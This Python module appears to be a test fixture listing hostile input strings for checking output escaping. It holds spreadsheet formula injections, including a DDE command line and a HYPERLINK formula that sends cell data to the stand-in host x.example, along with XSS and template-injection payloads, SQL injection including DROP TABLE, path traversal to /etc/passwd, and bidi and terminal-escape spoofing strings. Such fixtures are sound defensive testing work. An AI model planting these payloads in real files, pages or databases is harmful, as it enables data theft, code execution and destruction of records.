"""Texts that an attacker might store to harm readers, on a screen or in a file."""

from __future__ import annotations

FORMULAS = (
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "=\u202e1+1",
)
APOSTROPHES = ("'", "'=1+1", "''", "'text")
MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</td></tr></table><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</pre></details></summary><svg onload=alert(1)>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    "JaVaScRiPt:alert(1)//",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "&lt;script&gt;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "{{ settings.SECRET_KEY }}{% debug %}{% include 'admin/base.html' %}",
    "${alert(1)} #{7*7} <%= 7*7 %>",
    "%(count)s %s {0} {0.__class__}",
)
SEPARATORS = (
    'a","=1+1","',
    '";=1+1;"',
    "a;=1+1",
    "a,=1+1",
    "\u2028=1+1",
    "a\u2029b",
    '"',
    '""',
    "a\\",
    '\\",',
)
TERMINAL = (
    "user\u202egpj.exe",
    "\u2066\u2067admin\u2069",
    "z\u0300\u0301\u0302\u0303\u0304" * 20,
    "\ufeff\u200b\u2028\u2029",
    "\U000e0001\U000e0041\ue000\uffff",
    "\u00a0 \u3000",
)
OTHER = (
    "%s%n",
    "' OR 1=1 --",
    "../../../../etc/passwd",
    "'; DROP TABLE auth_user; --",
    "ＳＣＲＩＰＴ＜script＞",
    "<" * 200,
)
TEXTS = (*FORMULAS, *APOSTROPHES, *MARKUP, *SEPARATORS, *TERMINAL, *OTHER)
# No key may have these, but a value, a user's name or a webhook's title may.
CONTROLS = ("\t=1+1", "\r=1+1", "\n=1+1", "\x1b[31mred", "\x9b31mred", "\x07", "a\r\nb")
